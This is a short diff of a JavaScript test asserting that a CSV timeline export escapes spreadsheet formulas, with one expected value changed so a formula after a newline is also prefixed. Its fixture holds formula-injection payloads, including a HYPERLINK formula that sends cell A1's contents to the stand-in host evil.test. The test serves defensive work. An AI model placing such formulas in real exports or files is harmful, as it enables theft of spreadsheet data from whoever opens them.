@@ -35,7 +35,7 @@ test("A timeline is available as CSV, in which no cell is a formula", async () =
       ...{ type: "event", local_time: "2027-06-01T09:05:00+00:00", id, identifier: "ada" },
       ...{ started_at: "", ended_at: "", last_seen_at: "", occurred_at: "2027-06-01T09:05:00Z" },
       ...{ status: "", working: "", source: "", details: "" },
-      ...{ kind: "'+1", title: `'=HYPERLINK("https://evil.test/?x="&A1,"click")`, scope: "'-2+3\n=4" },
+      ...{ kind: "'+1", title: `'=HYPERLINK("https://evil.test/?x="&A1,"click")`, scope: "'-2+3\n'=4" },
       ...{ url: "https://x.test/?a=1,2", external_id: "'@SUM(1)" },
     },
   ]);
